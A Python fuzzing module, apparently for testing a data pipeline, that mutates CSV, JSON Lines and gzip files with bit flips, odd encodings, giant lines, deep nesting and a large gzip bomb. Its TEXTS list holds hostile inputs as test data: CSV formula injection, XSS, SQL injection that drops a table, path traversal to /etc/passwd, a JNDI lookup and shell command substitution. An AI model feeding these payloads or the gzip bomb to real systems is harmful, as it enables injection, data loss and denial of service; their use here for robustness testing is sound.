"""Ways in which a file can be hostile: each takes sound bytes and a generator, and gives other bytes."""

from __future__ import annotations

import codecs
import gzip
import json
import random
from collections.abc import Callable

Mutation = Callable[[bytes, random.Random], bytes]

TEXTS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+9)*cmd|" /C calc"!A0',
    "<script>document.title='owned'</script>",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE predictions; --",
    "' OR '1'='1",
    "\" FROM read_text('/etc/passwd') --",
    "$inner_key",
    "{{ 7 * 7 }}{% raw %}",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/dev/zero",
    "abc\u202edef\u2066ghi\u2069",
    "nor\u200bth\u00ad",
    "\u200f\u061c\ufeff",
    "\x1b]0;owned\x07\x1b[31mred\x1b[2J",
    "\x9b31m\x85",
    "\x01\x02\x0b\x0c\x7f",
    "\ufffe\ufdd0\U000e0041\U0010ffff",
    "\x1e\x1f",
    "9" * 5000,
    "1e999999",
    "-1e-999999",
    "0x1F",
    "1_000",
    "NaN",
    "Infinity",
    "9999-99-99",
    "0000-00-00T00:00:00",
    "2026-02-30",
    "+275760-09-13",
    "A" * 70_000,
    "é" * 300,
    "%s%s%n%x",
    "${jndi:ldap://canary.invalid/a}",
    "`touch owned`$(touch owned)",
    "\\N",
    "nul",
    "null",
    "",
)


def flip(content: bytes, rng: random.Random) -> bytes:
    changed = bytearray(content)
    for _ in range(rng.choice((1, 1, 2, 5, 40))):
        if changed:
            changed[rng.randrange(len(changed))] ^= 1 << rng.randrange(8)
    return bytes(changed)


def truncate(content: bytes, rng: random.Random) -> bytes:
    return content[: rng.randrange(len(content) + 1)]


def splice(content: bytes, rng: random.Random) -> bytes:
    """Cut, repeat or move a piece."""
    at, length = rng.randrange(len(content) + 1), rng.choice((1, 3, 20, 200))
    piece = content[at : at + length]
    rest = content[:at] + content[at + length :]
    to = rng.randrange(len(rest) + 1)
    return rng.choice(
        (rest, content[:at] + piece * rng.randrange(5) + content[at:], rest[:to] + piece + rest[to:])
    )


def put_bytes(content: bytes, rng: random.Random) -> bytes:
    at = rng.randrange(len(content) + 1)
    put = rng.choice(
        (
            b"\x00",
            b"\xff\xfe",
            b"\x80",
            b"\xed\xa0\x80",
            b"\xc0\xaf",
            b"\xf5\x80\x80\x80",
            b"\x1a",
            b"\x00" * 99,
        )
    )
    return content[:at] + put + content[at:]


def put_text(content: bytes, rng: random.Random) -> bytes:
    at = rng.randrange(len(content) + 1)
    return content[:at] + rng.choice(TEXTS).encode("utf-8", "surrogatepass") + content[at:]


def recode(content: bytes, rng: random.Random) -> bytes:
    name = rng.choice(("utf-16", "utf-16-be", "utf-32", "latin-1", "cp037", "utf-7", "cp1252"))
    text = content.decode("utf-8", "replace").replace("north", "n\u00f8rth")
    return codecs.BOM_UTF8 * rng.randrange(2) + text.encode(name, "replace")


def marks(content: bytes, rng: random.Random) -> bytes:
    return codecs.BOM_UTF8 * rng.randrange(1, 4) + content


def line_ends(content: bytes, rng: random.Random) -> bytes:
    ends = (b"\n", b"\r\n", b"\r", b"\n\n", b"\n\r", b"\x0b\n", b"\x85\n", "\u2028".encode(), b" \n")
    keep = rng.choice(((b"\n", b"\r\n"), ends))
    return b"".join(line + rng.choice(keep) for line in content.split(b"\n"))


def quotes(content: bytes, rng: random.Random) -> bytes:
    changed = content
    for _ in range(rng.randrange(1, 4)):
        at = rng.randrange(len(changed) + 1)
        changed = changed[:at] + rng.choice((b'"', b'""', b'"\n', b'\\"', b"'", b',"')) + changed[at:]
    return changed


def giant_line(content: bytes, rng: random.Random) -> bytes:
    lines = content.split(b"\n")
    at = rng.randrange(len(lines))
    filling = rng.choice((b"x", b",", b'"', b"[", b'{"a":', b"\xc3\xa9", b"1"))
    lines[at] += filling * (rng.choice((10_000, 300_000, 1_100_000, 2_500_000)) // len(filling))
    return b"\n".join(lines)


def fields(content: bytes, rng: random.Random) -> bytes:
    """Hostile texts in the fields of a CSV, quoted where they need it."""
    lines = content.decode().split("\n")
    for at in rng.sample(range(len(lines)), k=min(len(lines), 6)):
        cells = lines[at].split(",")
        cells[rng.randrange(len(cells))] = rng.choice(TEXTS)
        lines[at] = ",".join(_quoted(cell) for cell in cells)
    return "\n".join(lines).encode("utf-8", "surrogatepass")


def _quoted(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"' if any(mark in cell for mark in ',"\n') else cell


def duplicate_header(content: bytes, rng: random.Random) -> bytes:
    head, _, rest = content.partition(b"\n")
    names = head.split(b",")
    names[rng.randrange(len(names))] = rng.choice(names)
    return b",".join(names) + b"\n" + rest


def swapped_columns(content: bytes, rng: random.Random) -> bytes:
    """The header's names in another order, lost, doubled or in another case over the same cells."""
    head, _, rest = content.partition(b"\n")
    names = head.split(b",")
    match rng.randrange(4):
        case 0:
            rng.shuffle(names)
        case 1:
            names.pop(rng.randrange(len(names)))
        case 2:
            names = [name.upper() for name in names]
        case _:
            names.insert(rng.randrange(len(names)), b"extra")
    return b",".join(names) + b"\n" + rest


def many_columns(content: bytes, rng: random.Random) -> bytes:
    more = rng.choice((50, 2_000, 40_000))
    lines = content.split(b"\n")
    names = b",".join(b"c%d" % number for number in range(more))
    return b"\n".join([lines[0] + b"," + names, *(line + b"," * more for line in lines[1:4])])


def no_header(content: bytes, rng: random.Random) -> bytes:
    head, _, rest = content.partition(b"\n")
    return rng.choice((rest, head + rest, b"\n" + content, b",,,\n" + rest))


def objects(content: bytes, rng: random.Random) -> bytes:
    """Hostile values and keys in JSON Lines."""
    lines = content.decode().split("\n")
    for at in rng.sample(range(len(lines)), k=min(len(lines), 6)):
        if not lines[at]:
            continue
        row = json.loads(lines[at])
        name = rng.choice(list(row))
        match rng.randrange(5):
            case 0:
                row[name] = rng.choice(TEXTS)
            case 1:
                row[rng.choice(TEXTS)[:200]] = row.pop(name)
            case 2:
                row[name] = rng.choice(({"a": [1]}, [None], True, None, 10**400, -0.0, 1e308))
            case 3:
                row |= {f"k{number}": number for number in range(rng.choice((10, 3_000)))}
            case _:
                row[rng.choice(("/", "~", "a/b", "a~1", "$.*", "*", '"', "'", "", "[0]"))] = 1
        lines[at] = json.dumps(row, ensure_ascii=rng.random() < 0.5)
    return "\n".join(lines).encode("utf-8", "surrogatepass")


def raw_objects(content: bytes, rng: random.Random) -> bytes:
    """JSON that Python would not write."""
    deep = rng.choice((50, 2_000, 200_000))
    put = rng.choice(
        (
            "[" * deep + "]" * deep,
            '{"a":' * deep + "1" + "}" * deep,
            "9" * 100_000,
            "NaN",
            "-Infinity",
            '"\\ud800"',
            '"\\u0000"',
            '"\\u202e"',
            "1e999999999",
            "tru",
            "01",
            "[1,]",
        )
    )
    lines = content.decode().split("\n")
    at = rng.randrange(len(lines))
    if lines[at].startswith("{"):
        name = rng.choice(("site", "extra"))
        lines[at] = rng.choice((f'{{"{name}":{put},{lines[at][1:]}', put))
    return "\n".join(lines).encode()


def compressed(mutation: Mutation) -> Mutation:
    """The mutation inside a sound .gz."""
    return lambda content, rng: gzip.compress(mutation(content, rng), 1, mtime=0)


def damaged_gzip(content: bytes, rng: random.Random) -> bytes:
    whole = gzip.compress(content, mtime=0)
    return rng.choice((flip, truncate, splice, put_bytes))(whole, rng)


def gzip_members(content: bytes, rng: random.Random) -> bytes:
    at = rng.randrange(len(content))
    parts = [gzip.compress(content[:at], mtime=0), gzip.compress(content[at:], mtime=0)]
    return b"".join(parts) + rng.choice(
        (b"", b"\x00" * 20, b"tail", gzip.compress(b""), gzip.compress(parts[0]))
    )


def gzip_bomb(content: bytes, rng: random.Random) -> bytes:
    filling = rng.choice((b"0", b"\n", b",", b"a,b\n"))
    return gzip.compress(content + filling * ((70 << 20) // len(filling)), 1, mtime=0)


BYTES: dict[str, Mutation] = {
    "bytes flipped": flip,
    "truncated": truncate,
    "spliced": splice,
    "NULs and broken UTF-8": put_bytes,
    "hostile text anywhere": put_text,
    "other encodings": recode,
    "byte-order marks": marks,
    "mixed line ends": line_ends,
    "stray quotes": quotes,
    "giant lines": giant_line,
}
CSV: dict[str, Mutation] = {
    **BYTES,
    "hostile text in fields": fields,
    "names twice in the header": duplicate_header,
    "columns swapped": swapped_columns,
    "thousands of columns": many_columns,
    "no header": no_header,
}
JSON: dict[str, Mutation] = {
    **{name: BYTES[name] for name in BYTES if name != "stray quotes"},
    "hostile keys and values": objects,
    "deep and odd JSON": raw_objects,
}
GZIP: dict[str, Mutation] = {
    "damaged stream": damaged_gzip,
    "several members, tails": gzip_members,
    "hostile text in fields": compressed(fields),
    "bytes flipped inside": compressed(flip),
}
